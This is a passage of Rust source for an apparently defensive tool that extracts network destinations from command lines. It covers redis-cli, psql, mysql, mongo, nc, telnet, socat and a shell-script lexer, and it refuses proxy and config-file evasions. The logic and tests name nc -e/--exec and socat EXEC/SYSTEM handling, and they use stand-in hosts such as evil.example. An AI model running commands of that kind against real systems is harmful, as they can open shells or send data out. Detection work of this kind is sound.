    short_val: "lenbXk",
    short_attached: "",
    long_val: &[],
    long_val_prefix: &[],
};

/// libpq `key=value` connection strings (`host=a port=5432 dbname=x`).
fn conninfo_pairs(s: &str) -> Vec<(String, String)> {
    let chars: Vec<char> = s.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    let at = |i: usize| chars.get(i).copied();
    loop {
        while at(i).is_some_and(char::is_whitespace) {
            i += 1;
        }
        let mut key = String::new();
        while let Some(c) = at(i) {
            if c == '=' || c.is_whitespace() {
                break;
            }
            key.push(c);
            i += 1;
        }
        while at(i).is_some_and(char::is_whitespace) {
            i += 1;
        }
        if at(i) != Some('=') {
            if at(i).is_none() {
                break;
            }
            continue;
        }
        i += 1;
        while at(i).is_some_and(char::is_whitespace) {
            i += 1;
        }
        let mut value = String::new();
        if at(i) == Some('\'') {
            i += 1;
            while let Some(c) = at(i) {
                i += 1;
                match c {
                    '\\' => {
                        if let Some(n) = at(i) {
                            value.push(n);
                            i += 1;
                        }
                    }
                    '\'' => break,
                    c => value.push(c),
                }
            }
        } else {
            while let Some(c) = at(i) {
                if c.is_whitespace() {
                    break;
                }
                value.push(c);
                i += 1;
            }
        }
        if !key.is_empty() {
            out.push((key, value));
        }
        if at(i).is_none() {
            break;
        }
    }
    out
}

impl Ctx {
    fn redis(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut host: Option<(String, usize)> = None;
        let mut port: Option<u16> = None;
        let mut explicit = false;
        let mut positionals = Vec::new();
        for t in &REDIS.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, vidx, ..
                } => {
                    let v = value.as_deref().unwrap_or("");
                    let src = loc.src("redis-cli option", *vidx);
                    match name.as_str() {
                        "-h" => host = Some((v.to_string(), *vidx)),
                        "-p" => port = port_value(v, &src)?,
                        "-u" => {
                            explicit = true;
                            self.target(v, "redis", &src)?;
                        }
                        "-s" => explicit = true,
                        _ => self.scan_word(v, &src)?,
                    }
                }
                Tok::Pos { word, idx } => positionals.push((word.clone(), *idx)),
            }
        }
        match host {
            Some((h, idx)) => {
                let src = loc.src("redis-cli host", idx);
                let host = known_host(&h, &src)?;
                self.push(host, port.or(Some(6379)), src);
            }
            None if !explicit => {
                self.push(
                    "127.0.0.1".to_string(),
                    port.or(Some(6379)),
                    loc.src("redis-cli default host", 0),
                );
            }
            None => {}
        }
        for (w, idx) in positionals {
            self.scan_word(&w, &loc.src("redis-cli argument", idx))?;
        }
        Ok(())
    }

    /// A word of a PostgreSQL tool that may be a URI or a conninfo string.
    fn pg_word(&mut self, word: &str, src: &str) -> Res {
        if let Some((scheme, rest)) = split_url(word)
            && (scheme == "postgres" || scheme == "postgresql")
        {
            return self.url(&scheme, rest, src);
        }
        if !(word.contains("host") || word.contains("service")) || !word.contains('=') {
            return self.scan_word(word, src);
        }
        let pairs = conninfo_pairs(word);
        let mut port = Some(5432);
        for (k, v) in &pairs {
            match k.as_str() {
                "port" => port = port_value(v.split(',').next().unwrap_or(""), src)?.or(Some(5432)),
                "service" => {
                    return Err(ev(
                        "`service=` reads the host from pg_service.conf, which argv cannot show",
                        src,
                    ));
                }
                _ => {}
            }
        }
        for (k, v) in &pairs {
            if k == "host" || k == "hostaddr" {
                for h in v.split(',') {
                    if h.is_empty() || h.starts_with('/') || h.starts_with('@') {
                        continue;
                    }
                    let host = known_host(h, src)?;
                    self.push(host, port, src.to_string());
                }
            }
        }
        Ok(())
    }

    fn psql(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let spec = if prog == "psql" { &PSQL } else { &PG_TOOLS };
        let mut hosts: Option<(String, usize)> = None;
        let mut ports: Vec<Option<u16>> = Vec::new();
        for t in &spec.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, vidx, ..
                } => {
                    let v = value.as_deref().unwrap_or("");
                    let src = loc.src(&format!("{prog} option"), *vidx);
                    if name == "-h" || is_long(name, &["host"]) {
                        hosts = Some((v.to_string(), *vidx));
                    } else if name == "-p" || is_long(name, &["port"]) {
                        ports = v
                            .split(',')
                            .map(|p| port_value(p, &src))
                            .collect::<Result<_, _>>()?;
                    } else if !v.is_empty() {
                        self.pg_word(v, &src)?;
                    }
                }
                Tok::Pos { word, idx } => {
                    self.pg_word(word, &loc.src(&format!("{prog} argument"), *idx))?
                }
            }
        }
        if let Some((list, idx)) = hosts {
            let src = loc.src(&format!("{prog} host"), idx);
            for (n, h) in list.split(',').enumerate() {
                if h.is_empty() || h.starts_with('/') || h.starts_with('@') {
                    continue;
                }
                let host = known_host(h, &src)?;
                let port = ports
                    .get(n)
                    .or(ports.first().filter(|_| ports.len() == 1))
                    .copied()
                    .flatten()
                    .or(Some(5432));
                self.push(host, port, src.clone());
            }
        }
        Ok(())
    }

    fn mysql(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let mut host: Option<(String, usize)> = None;
        let mut port = None;
        for t in &MYSQL.parse(args, false) {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    let v = value.as_deref().unwrap_or("");
                    let src = loc.src(&format!("{prog} option"), *vidx);
                    if is_long(
                        name,
                        &["defaults-file", "defaults-extra-file", "login-path"],
                    ) {
                        return Err(ev(
                            format!(
                                "{prog} `{name}` reads the host from a file, which argv cannot show"
                            ),
                            loc.src(&format!("{prog} option"), *idx),
                        ));
                    }
                    if name == "-h" || is_long(name, &["host"]) {
                        host = Some((v.to_string(), *vidx));
                    } else if name == "-P" || is_long(name, &["port"]) {
                        port = port_value(v, &src)?;
                    } else if name != "-p" && !is_long(name, &["password"]) && !v.is_empty() {
                        self.scan_word(v, &src)?;
                    }
                }
                Tok::Pos { word, idx } => {
                    self.scan_word(word, &loc.src(&format!("{prog} argument"), *idx))?
                }
            }
        }
        if let Some((h, idx)) = host {
            let src = loc.src(&format!("{prog} host"), idx);
            let host = known_host(&h, &src)?;
            self.push(host, port.or(Some(3306)), src);
        }
        Ok(())
    }

    fn mongo(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let mut port = None;
        let mut found = false;
        let mut nodb = false;
        let mut hosts: Vec<(String, String)> = Vec::new();
        let mut address: Option<(String, usize)> = None;
        for t in &MONGO.parse(args, false) {
            match t {
                Tok::Opt {
                    name, value, vidx, ..
                } => {
                    let v = value.as_deref().unwrap_or("");
                    let src = loc.src(&format!("{prog} option"), *vidx);
                    if name == "--nodb" {
                        nodb = true;
                    } else if name == "--host" {
                        hosts.push((v.to_string(), src));
                    } else if name == "--port" {
                        port = port_value(v, &src)?;
                    } else if name != "-p" && name != "--password" {
                        self.scan_word(v, &src)?;
                    }
                }
                Tok::Pos { word, idx } => {
                    if address.is_none() {
                        address = Some((word.clone(), *idx));
                    } else {
                        self.scan_word(word, &loc.src(&format!("{prog} argument"), *idx))?;
                    }
                }
            }
        }
        let default = port.or(Some(27017));
        for (h, src) in hosts {
            if let Some((scheme, rest)) = split_url(&h) {
                self.url(&scheme, rest, &src)?;
            } else {
                // `replicaSet/h1:p,h2:p`
                let list = h.rsplit_once('/').map_or(h.as_str(), |(_, l)| l);
                for hp in list.split(',') {
                    self.host_port(hp, default, &src)?;
                }
            }
            found = true;
        }
        if let Some((w, idx)) = address {
            let src = loc.src(&format!("{prog} address"), idx);
            if let Some((scheme, rest)) = split_url(&w) {
                self.url(&scheme, rest, &src)?;
                found = true;
            } else if w.ends_with(".js") || w.ends_with(".mongodb") {
                self.scan_word(&w, &src)?;
            } else if let Some((hp, _)) = w.split_once('/') {
                if !hp.is_empty() {
                    self.host_port(hp, default, &src)?;
                    found = true;
                }
            } else if w.contains(':') || (w.contains('.') && normalize::host(&w).is_ok()) {
                self.host_port(&w, default, &src)?;
                found = true;
            }
        }
        if !found && !nodb {
            self.push(
                "127.0.0.1".to_string(),
                default,
                loc.src(&format!("{prog} default host"), 0),
            );
        }
        Ok(())
    }

    fn nc(&mut self, prog: &str, args: &[String], loc: &Loc) -> Res {
        let spec = if prog == "ncat" { &NCAT } else { &NC };
        let mut listen = false;
        let mut positionals = Vec::new();
        for t in &spec.parse(args, false) {
            match t {
                Tok::Opt {
                    name,
                    value,
                    idx,
                    vidx,
                } => {
                    let src = loc.src(&format!("{prog} option"), *idx);
                    if matches!(name.as_str(), "-x" | "-X")
                        || is_long(name, &["proxy", "proxy-type"])
                    {
                        return Err(ev(format!("{prog} `{name}` connects through a proxy"), src));
                    }
                    if matches!(name.as_str(), "-l" | "--listen") {
                        listen = true;
                    }
                    if name == "-U" || name == "--unixsock" {
                        return Ok(());
                    }
                    let v = value.as_deref().unwrap_or("");
                    let vsrc = loc.src(&format!("{prog} option value"), *vidx);
                    if (name == "-c" && prog == "ncat") || is_long(name, &["sh-exec"]) {
                        self.script(v, &loc.nested(&format!("{prog} {name}"), *vidx))?;
                    } else if name == "-e" || is_long(name, &["exec"]) {
                        let words: Vec<String> = v.split_whitespace().map(str::to_string).collect();
                        self.command(&words, &loc.nested(&format!("{prog} {name}"), *vidx))?;
                    } else if !v.is_empty() && name != "-p" && name != "-s" {
                        self.scan_word(v, &vsrc)?;
                    }
                }
                Tok::Pos { word, idx } => positionals.push((word.clone(), *idx)),
            }
        }
        if listen {
            return Ok(());
        }
        let Some((host, hidx)) = positionals.first() else {
            return Ok(());
        };
        let src = loc.src(&format!("{prog} host"), *hidx);
        let host = known_host(host, &src)?;
        let port = match positionals.get(1) {
            Some((p, pidx)) => {
                if p.bytes().all(|b| b.is_ascii_digit()) {
                    port_value(p, &loc.src(&format!("{prog} port"), *pidx))?
                } else if let Some(why) = runtime_host(p) {
                    return Err(ev(
                        format!("port `{p}` {why}"),
                        loc.src(&format!("{prog} port"), *pidx),
                    ));
                } else {
                    // Ranges, lists and service names: port unknown.
                    None
                }
            }
            None => None,
        };
        self.push(host, port, src);
        Ok(())
    }

    fn telnet(&mut self, args: &[String], loc: &Loc) -> Res {
        let pos: Vec<(String, usize)> = TELNET
            .parse(args, false)
            .into_iter()
            .filter_map(|t| match t {
                Tok::Pos { word, idx } => Some((word, idx)),
                Tok::Opt { .. } => None,
            })
            .collect();
        let Some((host, hidx)) = pos.first() else {
            return Ok(());
        };
        let src = loc.src("telnet host", *hidx);
        let host = known_host(host.rsplit('@').next().unwrap_or(host), &src)?;
        let port = match pos.get(1) {
            Some((p, pidx)) if p.bytes().all(|b| b.is_ascii_digit()) => {
                port_value(p, &loc.src("telnet port", *pidx))?
            }
            Some(_) => None,
            None => Some(23),
        };
        self.push(host, port, src);
        Ok(())
    }

    fn socat(&mut self, args: &[String], loc: &Loc) -> Res {
        let mut i = 0;
        while let Some(w) = get(args, i) {
            if w.len() > 1 && w.starts_with('-') {
                i += if matches!(w, "-b" | "-t" | "-T" | "-L" | "-W" | "-lf" | "-lp") {
                    2
                } else {
                    1
                };
                continue;
            }
            for addr in w.split("!!") {
                self.socat_address(addr, &loc.src("socat address", i), loc, i)?;
            }
            i += 1;
        }
        Ok(())
    }

    fn socat_address(&mut self, addr: &str, src: &str, loc: &Loc, i: usize) -> Res {
        let (kind, params) = addr.split_once(':').unwrap_or((addr, ""));
        let kind = kind.to_ascii_uppercase();
        let params_main = params.split(',').next().unwrap_or("");
        let connects = matches!(
            kind.as_str(),
            "TCP"
                | "TCP4"
                | "TCP6"
                | "TCP-CONNECT"
                | "TCP4-CONNECT"
                | "TCP6-CONNECT"
                | "OPENSSL"
                | "OPENSSL-CONNECT"
                | "SSL"
                | "UDP"
                | "UDP4"
                | "UDP6"
                | "UDP-CONNECT"
                | "UDP4-CONNECT"
                | "UDP6-CONNECT"
                | "UDP-SENDTO"
                | "UDP4-SENDTO"
                | "UDP6-SENDTO"
                | "SCTP"
                | "SCTP-CONNECT"
                | "SCTP4-CONNECT"
                | "SCTP6-CONNECT"
                | "DCCP-CONNECT"
                | "DTLS"
                | "OPENSSL-DTLS-CLIENT"
        );
        if connects {
            return self.host_port(params_main, None, src);
        }
        if kind.starts_with("SOCKS") || kind.starts_with("PROXY") {
            return Err(ev(format!("socat `{kind}` connects through a proxy"), src));
        }
        if kind == "EXEC" {
            let words: Vec<String> = params_main.split_whitespace().map(str::to_string).collect();
            return self.command(&words, &loc.nested("socat EXEC", i));
        }
        if kind == "SYSTEM" {
            return self.script(params_main, &loc.nested("socat SYSTEM", i));
        }
        self.scan_word(addr, src)
    }
}

// ---------------------------------------------------------------------------
// Shell scripts (`sh -c`, `eval`, ssh remote commands)

/// Marks an expansion whose value is unknown; becomes `$` in the words
/// handed to command analysis, where a `$` in a host position is refused.
const EXP: char = '\u{E000}';

/// Command separators, to decide whether an assignment always happens.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    Seq,
    And,
    Or,
    Pipe,
    Bg,
    Group,
    End,
}

#[derive(Default)]
struct Lexed {
    commands: Vec<Vec<String>>,
    /// Redirection targets and here-strings: scanned generically.
    data: Vec<String>,
    /// Bodies of `$(…)`, backticks, `<(…)`: analysed as scripts.
    nested: Vec<String>,
}

struct Lexer {
    chars: Vec<char>,
    pos: usize,
    /// Variables assigned exactly once, unconditionally, at top level, to
    /// a literal without spaces; `None` once that is no longer certain.
    vars: HashMap<String, Option<String>>,
    out: Lexed,
    cmd: Vec<String>,
    word: Option<String>,
    redirect_pending: bool,
    prev_sep: Sep,
    paren_depth: usize,
    block_depth: usize,
}

const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac",
    "in", "[[", "]]",
];

/// Drop leading shell keywords; `None` for `for`/`case`/`select` headers,
/// which are not commands.
fn strip_keywords(words: &[String]) -> Option<&[String]> {
    let mut w = words;
    loop {
        match w.first().map(String::as_str) {
            Some(k) if KEYWORDS.contains(&k) => w = w.get(1..).unwrap_or(&[]),
            Some("function") => w = w.get(2..).unwrap_or(&[]),
            Some("for" | "case" | "select") => return None,
            _ => return Some(w),
        }
    }
}

impl Lexer {
    fn new(src: &str) -> Self {
        Self {
            chars: src.chars().collect(),
            pos: 0,
            vars: HashMap::new(),
            out: Lexed::default(),
            cmd: Vec::new(),
            word: None,
            redirect_pending: false,
            prev_sep: Sep::Start,
            paren_depth: 0,
            block_depth: 0,
        }
    }

    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn peek_at(&self, k: usize) -> Option<char> {
        self.chars.get(self.pos + k).copied()
    }

    fn push_char(&mut self, c: char) {
        self.word.get_or_insert_with(String::new).push(c);
    }

    fn push_str(&mut self, s: &str) {
        self.word.get_or_insert_with(String::new).push_str(s);
    }

    fn finish_word(&mut self) {
        if let Some(w) = self.word.take() {
            if self.redirect_pending {
                self.out.data.push(w);
                self.redirect_pending = false;
            } else {
                self.cmd.push(w);
            }
        }
    }

    fn end_command(&mut self, sep: Sep) {
        self.finish_word();
        let cmd = std::mem::take(&mut self.cmd);
        if !cmd.is_empty() {
            self.track(&cmd, sep);
            self.out.commands.push(cmd);
        }
        self.prev_sep = sep;
    }

    /// Keep `vars` and block depth up to date after a command.
    fn track(&mut self, cmd: &[String], sep: Sep) {
        for w in cmd
            .iter()
            .take_while(|w| KEYWORDS.contains(&w.as_str()) || w.as_str() == "function")
        {
            match w.as_str() {
                "if" | "while" | "until" | "{" => self.block_depth += 1,
                "fi" | "done" | "esac" | "}" => {
                    self.block_depth = self.block_depth.saturating_sub(1)
                }
                _ => {}
            }
        }
        let Some(words) = strip_keywords(cmd) else {
            // `for NAME in …` / `select NAME`: NAME varies.
            if let Some(name) = cmd.get(1) {
                self.vars.insert(name.clone(), None);
            }
            if matches!(
                cmd.first().map(String::as_str),
                Some("for" | "select" | "case")
            ) {
                self.block_depth += 1;
            }
            return;
        };
        let certain = self.paren_depth == 0
            && self.block_depth == 0
            && matches!(self.prev_sep, Sep::Start | Sep::Seq)
            && matches!(sep, Sep::Seq | Sep::End | Sep::And | Sep::Or);
        let first = words.first().map(String::as_str).unwrap_or("");
        let (assigns, declared): (&[String], bool) = match first {
            "export" | "readonly" | "declare" | "typeset" | "local" => {
                (words.get(1..).unwrap_or(&[]), true)
            }
            _ => (words, false),
        };
        if first == "read"
            || first == "unset"
            || first == "getopts"
            || first == "mapfile"
            || first == "readarray"
        {
            for w in words.iter().skip(1).filter(|w| !w.starts_with('-')) {
                self.vars.insert(w.clone(), None);
            }
            return;
        }
        let all_assign = assigns
            .iter()
            .all(|w| w.starts_with('-') || assignment(w).is_some());
        if !(all_assign && (declared || !assigns.is_empty())) {
            return;
        }
        for w in assigns {
            let Some((name, value)) = assignment(w) else {
                continue;
            };
            let literal = !value.contains(EXP) && !value.chars().any(char::is_whitespace);
            let entry = if certain && literal && !self.vars.contains_key(name) {
                Some(value.to_string())
            } else {
                None
            };
            self.vars.insert(name.to_string(), entry);
        }
    }

    /// Body of `( … )` starting after the `(`; returns it and moves past
    /// the matching `)`.
    fn read_balanced(&mut self) -> Result<String, &'static str> {
        let mut depth = 1usize;
        let mut body = String::new();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '\\' => {
                    body.push(c);
                    if let Some(n) = self.peek() {
                        body.push(n);
                        self.pos += 1;
                    }
                }
                '\'' | '"' => {
                    body.push(c);
                    while let Some(n) = self.peek() {
                        self.pos += 1;
                        body.push(n);
                        if n == '\\' && c == '"' {
                            if let Some(m) = self.peek() {
                                body.push(m);
                                self.pos += 1;
                            }
                        } else if n == c {
                            break;
                        }
                    }
                }
                '(' => {
                    depth += 1;
                    body.push(c);
                }
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(body);
                    }
                    body.push(c);
                }
                c => body.push(c),
            }
        }
        Err("unbalanced parentheses")
    }

    fn read_backtick(&mut self) -> Result<String, &'static str> {
        let mut body = String::new();
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '\\' => match self.peek() {
                    Some(n @ ('`' | '\\' | '$')) => {
                        body.push(n);
                        self.pos += 1;
                    }
                    _ => body.push(c),
                },
                '`' => return Ok(body),
                c => body.push(c),
            }
        }
        Err("unterminated backtick")
    }

    /// At a `$` (already consumed).
    fn dollar(&mut self, quoted: bool) -> Result<(), &'static str> {
        match self.peek() {
            Some('(') => {
                self.pos += 1;
                let body = self.read_balanced()?;
                self.out.nested.push(body);
                self.push_char(EXP);
                self.push_str("(…)");
            }
            Some('{') => {
                self.pos += 1;
                let mut inner = String::new();
                let mut depth = 1usize;
                while let Some(c) = self.peek() {
                    self.pos += 1;
                    match c {
                        '{' => depth += 1,
                        '}' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    inner.push(c);
                }
                if depth != 0 {
                    return Err("unterminated ${");
                }
                if inner.contains("$(") || inner.contains('`') {
                    self.out.nested.push(inner.clone());
                }
                self.expand(&inner, quoted);
            }
            Some('\'') => {
                // ANSI-C quoting can spell any byte: unknown.
                self.pos += 1;
                while let Some(c) = self.peek() {
                    self.pos += 1;
                    if c == '\\' {
                        self.pos += 1;
                    } else if c == '\'' {
                        break;
                    }
                }
                self.push_char(EXP);
                self.push_str("'…'");
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let mut name = String::new();
                while let Some(c) = self.peek() {
                    if c.is_ascii_alphanumeric() || c == '_' {
                        name.push(c);
                        self.pos += 1;
                    } else {
                        break;
                    }
                }
                self.expand(&name, quoted);
            }
            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
                self.pos += 1;
                self.push_char(EXP);
                self.push_char(c);
            }
            _ => self.push_char('$'),
        }
        Ok(())
    }

    fn expand(&mut self, name: &str, quoted: bool) {
        match self.vars.get(name) {
            Some(Some(v)) if quoted || !v.contains(char::is_whitespace) => {
                let v = v.clone();
                self.push_str(&v);
            }
            _ => {
                self.push_char(EXP);
                self.push_str(&format!("{{{name}}}"));
            }
        }
    }

    fn double_quoted(&mut self) -> Result<(), &'static str> {
        self.word.get_or_insert_with(String::new);
        while let Some(c) = self.peek() {
            self.pos += 1;
            match c {
                '"' => return Ok(()),
                '\\' => match self.peek() {
                    Some(n @ ('$' | '`' | '"' | '\\')) => {
                        self.pos += 1;
                        self.push_char(n);
                    }
                    Some('\n') => self.pos += 1,
                    _ => self.push_char('\\'),
                },
                '$' => self.dollar(true)?,
                '`' => {
                    let body = self.read_backtick()?;
                    self.out.nested.push(body);
                    self.push_char(EXP);
                    self.push_str("(…)");
                }
                c => self.push_char(c),
            }
        }
        Err("unterminated double quote")
    }

    fn redirection(&mut self, c: char) -> Result<(), &'static str> {
        // `2>`: the digits were a file descriptor, not a word.
        if self
            .word
            .as_deref()
            .is_some_and(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_digit()))
        {
            self.word = None;
        } else {
            self.finish_word();
        }
        if self.peek_at(1) == Some('(') {
            // Process substitution `<(…)` / `>(…)`.
            self.pos += 2;
            let body = self.read_balanced()?;
            self.out.nested.push(body);
            self.push_char(EXP);
            self.push_str("(…)");
            return Ok(());
        }
        self.pos += 1;
        if c == '<' && self.peek() == Some('<') {
            if self.peek_at(1) == Some('<') {
                self.pos += 2;
                self.redirect_pending = true;
                return Ok(());
            }
            return Err("here-document");
        }
        if matches!(self.peek(), Some('>' | '&' | '|')) || (c == '<' && self.peek() == Some('>')) {
            self.pos += 1;
        }
        self.redirect_pending = true;
        Ok(())
    }

    fn run(mut self) -> Result<Lexed, &'static str> {
        while let Some(c) = self.peek() {
            match c {
                ' ' | '\t' | '\r' => {
                    self.finish_word();
                    self.pos += 1;
                }
                '\n' => {
                    self.end_command(Sep::Seq);
                    self.pos += 1;
                }
                ';' => {
                    self.end_command(Sep::Seq);
                    self.pos += 1;
                }
                '&' => {
                    if self.peek_at(1) == Some('>') {
                        self.finish_word();
                        self.pos += 1;
                        self.redirection('>')?;
                    } else if self.peek_at(1) == Some('&') {
                        self.end_command(Sep::And);
                        self.pos += 2;
                    } else {
                        self.end_command(Sep::Bg);
                        self.pos += 1;
                    }
                }
                '|' => {
                    if self.peek_at(1) == Some('|') {
                        self.end_command(Sep::Or);
                        self.pos += 2;
                    } else {
                        self.end_command(Sep::Pipe);
                        self.pos += if self.peek_at(1) == Some('&') { 2 } else { 1 };
                    }
                }
                '(' => {
                    self.end_command(Sep::Group);
                    self.paren_depth += 1;
                    self.pos += 1;
                }
                ')' => {
                    self.end_command(Sep::Group);
                    self.paren_depth = self.paren_depth.saturating_sub(1);
                    self.pos += 1;
                }
                '<' | '>' => self.redirection(c)?,
                '#' if self.word.is_none() => {
                    while self.peek().is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                '\'' => {
                    self.pos += 1;
                    self.word.get_or_insert_with(String::new);
                    loop {
                        match self.peek() {
                            None => return Err("unterminated single quote"),
                            Some('\'') => {
                                self.pos += 1;
                                break;
                            }
                            Some(c) => {
                                self.push_char(c);
                                self.pos += 1;
                            }
                        }
                    }
                }
                '"' => {
                    self.pos += 1;
                    self.double_quoted()?;
                }
                '\\' => {
                    self.pos += 1;
                    match self.peek() {
                        Some('\n') => self.pos += 1,
                        Some(n) => {
                            self.push_char(n);
                            self.pos += 1;
                        }
                        None => {}
                    }
                }
                '`' => {
                    self.pos += 1;
                    let body = self.read_backtick()?;
                    self.out.nested.push(body);
                    self.push_char(EXP);
                    self.push_str("(…)");
                }
                '$' => {
                    self.pos += 1;
                    self.dollar(false)?;
                }
                c => {
                    self.push_char(c);
                    self.pos += 1;
                }
            }
        }
        self.end_command(Sep::End);
        Ok(self.out)
    }
}

fn lex(src: &str) -> Result<Lexed, &'static str> {
    if src.len() > MAX_SCRIPT {
        return Err("script too large");
    }
    Lexer::new(src).run()
}

impl Ctx {
    /// Analyse a shell script string.
    fn script(&mut self, src: &str, loc: &Loc) -> Res {
        self.enter(loc)?;
        self.in_script += 1;
        let r = match lex(src) {
            Ok(lexed) => self.run_lexed(lexed, loc),
            Err(_) => self.fallback(src, loc),
        };
        self.in_script -= 1;
        self.depth -= 1;
        r
    }

    fn run_lexed(&mut self, lexed: Lexed, loc: &Loc) -> Res {
        let single = lexed.commands.len() == 1;
        for (n, cmd) in lexed.commands.iter().enumerate() {
            let words: Vec<String> = cmd.iter().map(|w| w.replace(EXP, "$")).collect();
            let cloc = if single {
                loc.clone()
            } else {
                Loc {
                    prefix: format!("{}command {}: ", loc.prefix, n + 1),
                    offset: 0,
                }
            };
            match strip_keywords(&words) {
                Some(rest) => {
                    let skipped = words.len() - rest.len();
                    self.command(rest, &cloc.shift(skipped))?;
                }
                None => self.scan_all(&words, &cloc, "generic scan of")?,
            }
        }
        for (n, d) in lexed.data.iter().enumerate() {
            let d = d.replace(EXP, "$");
            self.scan_word(&d, &format!("{}redirection {}", loc.prefix, n + 1))?;
        }
        for (n, body) in lexed.nested.iter().enumerate() {
            let nloc = Loc {
                prefix: format!("{}substitution {}: ", loc.prefix, n + 1),
                offset: 0,
            };
            self.script(body, &nloc)?;
        }
        Ok(())
    }

    /// A script the lexer cannot follow: scan every word, and analyse every
    /// segment that starts with a known program. Never "no destinations".
    fn fallback(&mut self, src: &str, loc: &Loc) -> Res {
        for (n, seg) in src.split(['\n', ';', '|', '&']).enumerate() {
            let words: Vec<String> = seg
                .split_whitespace()
                .map(|w| {
                    w.trim_start_matches(['$', '(', '`'])
                        .trim_matches(|c| matches!(c, '"' | '\'' | '`' | '(' | ')' | '{' | '}'))
                        .to_string()
                })
                .filter(|w| !w.is_empty())
                .collect();
            let sloc = Loc {
                prefix: format!("{}segment {}: ", loc.prefix, n + 1),
                offset: 0,
            };
            self.scan_all(&words, &sloc, "generic scan of")?;
            let start = words
                .iter()
                .position(|w| assignment(w).is_none() && !KEYWORDS.contains(&w.as_str()))
                .unwrap_or(words.len());
            if words
                .get(start)
                .and_then(|w| program_word(w))
                .is_some_and(is_known_program)
            {
                self.command(tail(&words, start), &sloc.shift(start))?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[derive(Debug, Clone, Copy)]
    enum Expect {
        /// No destination at all.
        N,
        /// Exactly these destinations (`host:port`, or `host` when the
        /// port is unknown), in any order.
        D(&'static [&'static str]),
        /// Refused as an evasion.
        E,
    }
    use Expect::{D, E, N};

    const CASES: &[(&[&str], Expect)] = &[
        // ---- false-positive guards: no destinations
        (&["echo", "hello"], N),
        (&["ls", "-la", "/tmp"], N),
        (&["python3", "-c", "print(1)"], N),
        (&["date", "+%H:%M:%S"], N),
        (&["git", "status"], N),
        (&["git", "log", "--oneline", "-n", "5"], N),
        (&["git", "commit", "-m", "see https://example.com/issue"], N),
        (&["git", "diff", "HEAD~1"], N),
        (&["cargo", "test"], N),
        (&["cargo", "add", "serde@1.0"], N),
        (&["npm", "install", "lodash@4.17.21"], N),
        (&["npx", "create-react-app@latest", "my-app"], N),
        (&["make", "-j4"], N),
        (&["grep", "foo:bar", "file"], N),
        (&["grep", "-rn", "TODO", "src/"], N),
        (&["vim", "src/main.rs:10"], N),
        (&["code", "-g", "main.rs:10"], N),
        (&["docker", "run", "-p", "8080:80", "nginx"], N),
        (&["docker", "run", "-p", "127.0.0.1:8080:80", "nginx"], N),
        (&["docker", "pull", "alpine@sha256:abcdef"], N),
        (&["echo", "me@example.com"], N),
        (&["printf", "%s\n", "https://evil.example"], N),
        (&["true"], N),
        (&[], N),
        (&["sleep", "10"], N),
        (&["node", "-e", "console.log(1+2)"], N),
        (&["python3", "manage.py", "migrate"], N),
        (&["./deploy.sh"], N),
        (&["terraform", "plan"], N),
        (&["kubectl", "get", "pods"], N),
        (&["aws", "s3", "ls", "s3://my-bucket/path"], N),
        (&["ssh-keygen", "-t", "ed25519", "-C", "me@example.com"], N),
        (&["sh", "-c", "echo hi && ls"], N),
        (&["bash", "-c", "for f in *.txt; do wc -l \"$f\"; done"], N),
        (&["env"], N),
        (&["env", "FOO=bar", "printenv", "FOO"], N),
        (&["sudo", "ls", "/root"], N),
        (&["timeout", "5", "sleep", "1"], N),
        (&["redis-cli", "-s", "/tmp/redis.sock", "ping"], N),
        (&["psql", "-d", "mydb", "-c", "select 1"], N),
        (&["psql", "postgresql:///mydb"], N),
        (&["mysql", "-u", "root", "mydb"], N),
        (&["mongosh", "--nodb"], N),
        (&["nc", "-l", "8080"], N),
        (&["ssh", "-V"], N),
        (&["git", "init"], N),
        (
            &["git", "remote", "add", "origin", "git@github.com:org/repo"],
            N,
        ),
        (&["git", "remote", "-v"], N),
        (&["git", "clone", "/srv/repo.git", "work"], N),
        (&["git", "clone", "./local", "copy"], N),
        (&["git", "clone", "file:///srv/repo.git"], N),
        (&["curl", "file:///etc/hosts"], N),
        (&["rsync", "-av", "src/", "dst/"], N),
        (&["scp", "a.txt", "./b.txt"], N),
        (&["echo", "ratio", "3.14:1"], N),
        (&["cat", "notes.md"], N),
        (&["python3", "-c", "import os; print(os.getcwd())"], N),
        (&["cargo", "run", "--", "--port", "8080"], N),
        (&["ls", "https:"], N),
        (&["jq", ".url", "data.json"], N),
        (&["bash", "script.sh", "arg"], N),
        (&["go", "test", "./..."], N),
        // ---- curl: URLs and schemeless targets
        (
            &["curl", "https://api.github.com/user"],
            D(&["api.github.com:443"]),
        ),
        (
            &["curl", "-s", "https://api.github.com"],
            D(&["api.github.com:443"]),
        ),
        (&["curl", "http://example.com"], D(&["example.com:80"])),
        (&["curl", "example.com"], D(&["example.com:80"])),
        (&["curl", "example.com/path?q=1"], D(&["example.com:80"])),
        (&["curl", "evil.example:8080"], D(&["evil.example:8080"])),
        (&["curl", "evil.example/path"], D(&["evil.example:80"])),
        (&["curl", "ftp.example.com"], D(&["ftp.example.com:21"])),
        (
            &["curl", "--proto-default", "https", "example.com"],
            D(&["example.com:443"]),
        ),
        (
            &["curl", "HTTPS://API.GITHUB.COM"],
            D(&["api.github.com:443"]),
        ),
        (
            &["curl", "https://api.github.com.:443/x"],
